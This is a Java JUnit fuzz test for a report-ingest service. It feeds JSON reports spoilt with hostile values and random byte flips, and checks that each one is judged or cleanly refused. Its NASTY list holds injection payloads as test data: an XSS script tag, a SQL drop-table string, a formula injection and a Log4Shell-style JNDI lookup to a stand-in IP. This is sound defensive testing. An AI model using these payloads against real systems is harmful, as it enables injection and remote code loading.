package io.dualsight.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import io.dualsight.contract.Json;
import io.dualsight.contract.Report;
import io.dualsight.contract.ReportReader;
import io.dualsight.contract.ReportWriter;
import io.dualsight.rule.Finding;
import io.dualsight.rule.Judgement;
import io.dualsight.rule.JudgementTree;
import io.dualsight.rule.RuleBook;
import io.dualsight.rule.Thresholds;
import io.dualsight.store.RetentionSettings;
import io.dualsight.store.Sent;
import io.dualsight.store.TestStore;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.springframework.mock.web.MockHttpServletRequest;

/** Whatever stands in a report, it is judged or refused: nothing throws what nobody expects. */
class HostileReportTests {
    private static final int REPORTS = 4000;
    private static final List<@Nullable Object> NASTY = Arrays.asList(
            null,
            true,
            -1,
            0,
            Long.MAX_VALUE,
            "",
            " ",
            "\u0000",
            "\ud800",
            "=1+1",
            "<script>alert(1)</script>",
            "'; drop table node; --",
            "${jndi:ldap://192.0.2.1/a}",
            "x".repeat(5000),
            "999.999.999.999",
            "::ffff:0:0%eth0",
            "2001:db8::/129",
            "0.0.0.0/0",
            "-999999999-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59Z",
            List.of(),
            Map.of(),
            List.of(List.of(List.of("x"))),
            Map.of("", Map.of("", "")));

    private final Random random = new Random(4711);
    private final Examiner examiner = new Examiner(
            new RetentionSettings(Duration.ofDays(7), Duration.ofDays(730), Duration.ofDays(730)),
            (agent, cluster, node) -> true,
            (agent, cluster, node) -> {},
            TestStore.reader());
    private final Judge judge = new Judge(new RuleBook(Thresholds.DEFAULT), FakeStore.taking(), Surroundings.NONE);

    @Test
    void judgesOrRefusesWhateverStandsInAReport() throws IOException {
        Object example = Json.read(
                getClass().getResourceAsStream("/contract/report.json").readAllBytes());
        int judged = 0;
        for (int i = 0; i < REPORTS; i++) {
            judged += judgedOrRefused(Json.write(spoilt(example, 0.02))) ? 1 : 0;
        }
        assertThat(judged).isBetween(REPORTS / 20, REPORTS * 19 / 20);
    }

    @Test
    void refusesNumbersThatAreNone() {
        String report = new SentReport("edge", "one")
                .with("agent", Map.of("cpuSeconds", 7.25))
                .json();
        assertThat(judgedOrRefused(report)).isTrue();
        for (String number : List.of("1e400", "-1e400", "1" + "0".repeat(500), "0.1e-99999999")) {
            judgedOrRefused(report.replace("7.25", number));
        }
    }

    @Test
    void survivesBytesThatAreNoReport() {
        byte[] body = new SentReport("edge", "one").json().getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < REPORTS; i++) {
            byte[] broken = body.clone();
            for (int flips = random.nextInt(4) + 1; flips > 0; flips--) {
                broken[random.nextInt(broken.length)] = (byte) random.nextInt(256);
            }
            judgedOrRefused(broken);
        }
    }

    private boolean judgedOrRefused(String body) {
        return judgedOrRefused(body.getBytes(StandardCharsets.UTF_8));
    }

    /** False where it is refused. */
    private boolean judgedOrRefused(byte[] body) {
        MockHttpServletRequest request = new MockHttpServletRequest("POST", "/api/v1/reports");
        request.setContentType("application/json");
        request.setContent(body);
        try {
            ReportTree tree = new RequestBodyReader(RequestStream.open(request)).one();
            Report report = examiner.read(tree, "edge");
            Judgement judgement =
                    judge.inHistory(Sent.of(report), SentReport.NOW).judgement();
            assertThat(Json.bytes(JudgementTree.of(judgement, Locale.ENGLISH))).isNotEmpty();
            assertThat(judgement.findings()).noneMatch(HostileReportTests::failed);
            byte[] kept = ReportWriter.write(report);
            assertThat(ReportWriter.write(ReportReader.read(Json.read(kept), null)))
                    .isEqualTo(kept);
            return true;
        } catch (RefusedException | RejectedException e) {
            return false;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A rule that threw says so this way. */
    private static boolean failed(Finding finding) {
        return finding.evidence().keySet().equals(Set.of("failure"));
    }

    /** A copy in which some values, and some names, are others. */
    private @Nullable Object spoilt(@Nullable Object value, double share) {
        if (random.nextDouble() < share) {
            return NASTY.get(random.nextInt(NASTY.size()));
        }
        if (value instanceof Map<?, ?> fields) {
            Map<String, @Nullable Object> copy = new LinkedHashMap<>();
            fields.forEach((name, field) -> copy.put((String) name, spoilt(field, share)));
            return copy;
        }
        if (value instanceof List<?> items) {
            List<@Nullable Object> copy = new ArrayList<>();
            items.forEach(item -> copy.add(spoilt(item, share)));
            return copy;
        }
        return value;
    }
}
